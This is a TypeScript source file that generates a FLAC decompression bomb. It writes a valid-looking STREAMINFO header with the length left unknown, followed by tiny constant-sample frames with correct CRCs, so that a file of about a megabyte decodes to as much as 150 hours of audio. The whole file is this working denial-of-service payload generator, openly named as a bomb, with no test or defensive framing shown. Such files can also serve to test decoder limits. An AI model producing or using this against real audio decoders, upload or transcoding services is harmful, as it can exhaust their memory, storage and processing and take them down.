const blockSamples = 65_535;
const sampleRateHz = 8000;

/**
 * A FLAC file (RFC 9639) of constant samples: 15 bytes for every 8 s. Its header does not tell how long it is.
 * @param hours up to 150
 */
export function makeFlacBomb(hours: number): Uint8Array {
  const frames = Math.ceil((hours * 3600 * sampleRateHz) / blockSamples);
  return Buffer.concat([
    makeHead(),
    ...Array.from({ length: frames }, (_, number) => makeConstantFrame(number)),
  ]);
}

/** The signature and STREAMINFO (8.2): block sizes, frame sizes unknown, rate, mono, 16 bits, samples and MD5 unknown. */
function makeHead(): Buffer {
  const head = Buffer.alloc(42);
  head.write("fLaC", "latin1");
  head.set([0x80, 0, 0, 34], 4);
  head.writeUInt16BE(blockSamples, 8);
  head.writeUInt16BE(blockSamples, 10);
  head.writeUInt32BE(((sampleRateHz << 12) | (15 << 4)) >>> 0, 18);
  return head;
}

/** Fixed blocks, size in 16 bits at the header's end, 8 kHz, mono, 16 bits (9.1); one constant subframe (9.2.3). */
function makeConstantFrame(number: number): Buffer {
  const header = Buffer.from([0xff, 0xf8, 0x74, 0x08, ...encodeNumber(number), 0xff, 0xfe]);
  const body = Buffer.concat([header, Buffer.from([crc(header, 8, 0x07), 0x00, 0x10, 0x00])]);
  const footer = Buffer.alloc(2);
  footer.writeUInt16BE(crc(body, 16, 0x8005));
  return Buffer.concat([body, footer]);
}

/** A frame's number, coded as UTF-8 codes a character (9.1.5). */
function encodeNumber(number: number): Buffer {
  return Buffer.from(String.fromCodePoint(number + (number >= 0xd800 ? 0x800 : 0)));
}

function crc(bytes: Uint8Array, width: 8 | 16, polynomial: number): number {
  const top = 2 ** (width - 1);
  let value = 0;
  for (const byte of bytes) {
    value ^= byte << (width - 8);
    for (let bit = 0; bit < 8; bit++)
      value = (value & top ? (value << 1) ^ polynomial : value << 1) & (2 * top - 1);
  }
  return value;
}
